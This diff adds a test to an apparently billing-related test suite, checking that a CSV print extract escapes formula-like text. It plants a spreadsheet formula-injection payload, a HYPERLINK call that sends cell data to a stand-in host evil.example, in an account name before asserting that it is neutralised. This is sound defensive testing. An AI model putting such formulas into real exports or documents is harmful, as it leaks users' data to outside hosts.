@@ -142,4 +142,19 @@ describe('bill documents', { skip: needsPoppler() }, () => {
     const printOnly = await fetchFile(h, '/billing/documents/get-print-extract', docEnv('Retrieve', 'Retrieve Print Extract', { termID, format: 'jsonl', only: 'print' }));
     assert.equal(printOnly.bytes.toString().trim().split('\n').length, 3, 'accounts take print by default');
   });
+
+  // An attack found an account named =HYPERLINK(...) written as a formula into the extract.
+  test('the CSV extract keeps text that looks like a formula as text; amounts stay numbers', async () => {
+    const before = await h.db.query<{ name: string; address: string }>('SELECT name, address FROM account WHERE account_number = $1', [bills[0].accountNumber]);
+    await h.db.query(`UPDATE account SET name = '=HYPERLINK("http://evil.example/?"&A2,"Click")', address = '@SUM(1+1)' WHERE account_number = $1`, [bills[0].accountNumber]);
+    try {
+      const csv = await fetchFile(h, '/billing/documents/get-print-extract', docEnv('Retrieve', 'Retrieve Print Extract', { termID, format: 'csv' }));
+      const row = csv.bytes.toString().split('\r\n')[1]!;
+      assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"`), row);
+      assert.ok(row.includes(`,'@SUM(1+1),`), row);
+      assert.ok(!/,[=+@]/.test(row), row);
+    } finally {
+      await h.db.query('UPDATE account SET name = $2, address = $3 WHERE account_number = $1', [bills[0].accountNumber, before.rows[0]!.name, before.rows[0]!.address]);
+    }
+  });
 });
